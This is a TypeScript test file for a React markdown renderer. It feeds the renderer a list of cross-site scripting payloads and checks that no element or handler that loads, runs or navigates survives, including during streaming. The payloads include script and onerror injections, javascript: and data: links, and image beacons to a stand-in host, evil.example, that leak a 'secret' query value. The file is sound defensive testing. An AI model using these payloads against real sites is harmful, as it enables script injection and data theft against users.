import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { RenderedMarkdown } from './rendered-markdown'

const render = (text: string, streaming = false): string => renderToStaticMarkup(<RenderedMarkdown text={text} streaming={streaming} />)

/** What must never be in the page, whatever was written: elements that load, run or navigate, and handlers. */
const forbidden = /<(?:img|script|iframe|object|embed|link|meta|style|svg|math|video|audio|source|form|base|template|frame)\b|<[^>]*\s(?:on\w+|style|src|srcset|srcdoc|action|formaction|data|xlink:href|poster|background)=/i
const links = (html: string): readonly string[] => [...html.matchAll(/<[^>]*\shref="([^"]*)"/g)].map((match) => match[1] ?? '')

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<style>@import url(https://evil.example/x.css)</style><div style="background:url(https://evil.example)">x</div>',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '![pixel](https://evil.example/p.png?q=secret)',
  '![ref][r]\n\n[r]: https://evil.example/p.png "t"',
  '[![nested](https://evil.example/p.png)](https://evil.example/go)',
  '[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x) [w](&#106;avascript:alert(1))',
  '<javascript:alert(1)> <https://evil.example/\u202Eauto>',
  '[a]: javascript:alert(1)\n\n[a] [b][a]',
  '```html\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> ![p](//evil.example/p) |',
  '- [x] <object data="https://evil.example"></object>\n- [ ] <embed src=x>',
  '[^1]\n\n[^1]: <img src=x> ![p](https://evil.example/f.png)',
  '<div>\n\n**bold** <img/src="x"/onerror=alert(1)>\n\n</div>',
  '<!-- <img src=x> --> <![CDATA[<img src=x>]]> <?php <img src=x> ?>',
  '"><img src=x onerror=alert(1)> \u0000<scr\u0000ipt>',
]

describe.each([['whole', false], ['streamed', true]] as const)('%s', (_name, streaming) => {
  test.each(attacks)('at every prefix, nothing loads, runs or leads away: %s', (attack) => {
    for (let end = 1; end <= attack.length; end += 1) {
      const html = render(attack.slice(0, end), streaming)
      expect(html).not.toMatch(forbidden)
      for (const href of links(html)) expect(href).toMatch(/^https:\/\//)
    }
  })
})

test('raw HTML is shown as the text it is', () => {
  expect(render('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim')
})

test('a picture is shown as its words and address', () => {
  expect(render('![a cat](https://example.com/cat.png)')).toContain('[image: a cat (https://example.com/cat.png)]')
})

test('an https link opens in a new page that is told nothing; another one is text', () => {
  expect(render('[ok](https://example.com/x)')).toContain(
    '<a href="https://example.com/x" title="https://example.com/x" target="_blank" rel="noopener noreferrer">ok</a>')
  expect(render('[no](http://example.com/x)')).not.toContain('href')
})

test('tables, lists, tasks and code keep their shape', () => {
  const html = render('| a | b |\n|---|:-:|\n| 1 | 2 |\n\n3. three\n\n- [x] done\n\n```ts\nlet a\n```\n\n`inline`')
  for (const part of ['<table>', '<th>a</th>', '<ol start="3">', 'checked=""', '<code class="language-ts">let a', '<code>inline</code>']) {
    expect(html).toContain(part)
  }
})
